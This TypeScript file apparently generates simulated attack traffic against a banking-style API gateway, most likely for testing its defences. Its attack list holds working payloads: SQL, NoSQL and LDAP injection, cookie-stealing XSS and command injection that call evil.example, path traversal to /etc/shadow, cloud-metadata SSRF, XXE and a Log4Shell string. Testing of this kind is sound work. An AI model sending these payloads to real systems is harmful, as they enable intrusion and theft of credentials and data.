import type { Random } from '../random.ts';
import type { Call } from './client.ts';
import { send } from './client.ts';

const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36' };
const JSON_TYPE = { ...BROWSER, 'content-type': 'application/json' };

const query = (path: string, name: string, value: string): Omit<Call, 'from'> => ({
  method: 'GET',
  path: `${path}?${name}=${encodeURIComponent(value)}`,
  headers: BROWSER,
});
const json = (path: string, body: unknown): Omit<Call, 'from'> => ({
  method: 'POST',
  path,
  headers: JSON_TYPE,
  body: JSON.stringify(body),
});

/** One of each kind of attack, in the places an API takes input. */
const ATTACKS: readonly Omit<Call, 'from'>[] = [
  query('/branches/search', 'q', "' OR '1'='1' -- "),
  query('/branches/search', 'q', "x' UNION SELECT username, password FROM users--"),
  query('/branches/search', 'q', '<script>fetch("//evil.example/"+document.cookie)</script>'),
  query('/branches/search', 'q', Buffer.from("1' AND SLEEP(5)#").toString('base64')),
  query('/statements/2026/03', 'file', '../../../../etc/passwd'),
  { method: 'GET', path: '/statements/..%2f..%2f..%2fetc%2fshadow', headers: BROWSER },
  query('/rates/USD/EUR', 'source', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  query('/rates/USD/EUR', 'format', '{{7*7}}{{config.items()}}'),
  json('/auth/token', { email: { $ne: null }, password: { $gt: '' } }),
  json('/auth/token', { email: 'admin*)(|(uid=*', password: 'x' }),
  json('/payments', { debtorAccount: 'x; cat /etc/passwd | nc evil.example 4444', amount: 1 }),
  json('/payments', { remittance: '$(curl -s http://evil.example/x.sh|sh)', amount: 1 }),
  {
    method: 'POST',
    path: '/payments',
    headers: { ...BROWSER, 'content-type': 'application/xml' },
    body: '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
  },
  { method: 'GET', path: '/accounts', headers: { ...BROWSER, 'x-client': '${jndi:ldap://evil.example/a}' } },
  { method: 'GET', path: '/.git/config', headers: { 'user-agent': 'sqlmap/1.8.4#stable (https://sqlmap.org)' } },
  { method: 'GET', path: '/wp-login.php', headers: { 'user-agent': 'Nikto/2.5.0' } },
];

/** One attack from one of a handful of addresses. */
export async function attack(gateway: string, random: Random): Promise<number> {
  await send(gateway, { ...random.pick(ATTACKS), from: `203.0.113.${random.integer(10, 18)}` });
  return 1;
}
